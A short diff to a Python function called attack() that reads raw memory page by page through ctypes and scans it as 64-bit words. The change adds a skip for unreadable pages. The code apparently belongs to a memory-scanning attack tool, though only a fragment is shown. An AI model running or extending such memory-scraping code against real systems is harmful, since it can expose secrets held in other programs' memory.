@@ -198,6 +198,8 @@ def attack():
     found = set()
     masked = np.empty(PAGE // 8 - 1, dtype=np.uint64)
     for page in pages:
+        if not is_readable(page):
+            continue
         memory = np.ctypeslib.as_array((ctypes.c_uint8 * PAGE).from_address(page * PAGE))
         for offset in range(8):
             words = memory[offset : PAGE - 8 + offset].view(np.uint64)
